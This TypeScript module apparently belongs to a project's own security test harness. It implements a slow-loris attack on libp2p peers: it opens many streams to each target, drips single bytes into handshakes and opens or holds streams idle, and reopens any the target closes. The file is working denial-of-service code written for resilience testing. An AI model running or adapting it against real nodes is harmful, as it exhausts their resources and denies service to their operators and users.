/**
 * Streams that are opened and left idle (security.md 6, slow-loris). Of three kinds in turn: a
 * handshake that sends a byte now and then, a stream whose OPEN comes the same way, and a stream
 * that is open and says nothing. What the victim closes is opened again.
 *
 * @module
 */

import { setMaxListeners } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import type { Stream } from '@libp2p/interface';
import { peerIdFromString } from '@libp2p/peer-id';
import { SeededRandom } from '../../node/decision/exploration/seeded-random.ts';
import { SECURE_PROTOCOLS, SESSION_PROTOCOL } from '../../protocols/protocol-ids.ts';
import { withPeers } from './wire-peer.ts';
import type { AttackInit, WirePeer } from './wire-peer.ts';

const OPEN_TIMEOUT_MS = 20_000;
/** Between two bytes of a stream that drips. */
const DRIP_MS = 1_000;
/** Before a stream is opened first, and before one that was refused or closed is opened again. */
const MAX_REST_MS = 10_000;
const PROTOCOLS = Object.values(SECURE_PROTOCOLS);

/** How many streams. */
export interface SlowLorisInit extends AttackInit {
  /** Of all peers together, to each target. */
  readonly streams: number;
  readonly peers: number;
  /** Told how many streams are open whenever one more is. */
  readonly onHeld: (streams: number) => void;
}

/** Holds streams until the signal. Counts streams: `served` are those that came about. */
export async function holdIdleStreams(init: SlowLorisInit): Promise<void> {
  const { targets, peers, streams, signal, counts, onHeld } = init;
  const ofOnePeer = Math.ceil(streams / peers);
  let held = 0;
  const hold = async (peer: WirePeer, target: string, kind: number): Promise<void> => {
    const random = new SeededRandom(kind);
    while (!signal.aborted) {
      const restMs = random.integer(MAX_REST_MS); // not all at the same time
      await delay(restMs, undefined, { signal }).catch(() => undefined);
      if (signal.aborted) return;
      counts.tried += 1;
      const untilEnd = await openOf(peer, target, kind, signal).catch(() => undefined);
      if (untilEnd !== undefined) {
        counts.served += 1;
        onHeld((held += 1));
        await untilEnd().catch(() => undefined); // the victim ended it
        held -= 1;
      } else if (!signal.aborted) counts.refused += 1;
    }
  };
  await withPeers(peers, targets, async (peer) => {
    setMaxListeners(0, signal);
    await Promise.all(
      targets.flatMap(({ peerId }) =>
        Array.from({ length: ofOnePeer }, (_, number) => hold(peer, peerId, number)),
      ),
    );
  });
}

/** Opens a stream. @returns what resolves when it has ended. @throws if there is none. */
async function openOf(
  { libp2p, streams }: WirePeer,
  target: string,
  kind: number,
  signal: AbortSignal,
): Promise<() => Promise<void>> {
  const limit = AbortSignal.any([signal, AbortSignal.timeout(OPEN_TIMEOUT_MS)]);
  const protocol = PROTOCOLS[Math.floor(kind / 3) % PROTOCOLS.length]!;
  if (kind % 3 === 2) {
    const stream = await streams.open(target, protocol, { signal: limit });
    return async () => {
      try {
        while ((await stream.readMessage({ signal })) !== undefined);
      } finally {
        stream.abort('cancelled');
      }
    };
  }
  const id = kind % 3 === 0 ? SESSION_PROTOCOL : protocol.id;
  const stream = await libp2p.dialProtocol(peerIdFromString(target), id, {
    signal: limit,
    maxOutboundStreams: Infinity,
  });
  return () => drip(stream, signal);
}

/** Sends one byte after the other until the stream is closed. */
async function drip(stream: Stream, signal: AbortSignal): Promise<void> {
  const onEnd = new AbortController();
  stream.addEventListener('close', () => onEnd.abort());
  stream.addEventListener('message', () => undefined);
  const either = AbortSignal.any([signal, onEnd.signal]);
  try {
    while (stream.status === 'open' && !either.aborted) {
      stream.send(Uint8Array.of(1));
      await delay(DRIP_MS, undefined, { signal: either });
    }
  } finally {
    stream.abort(new Error('the attack is over'));
  }
}
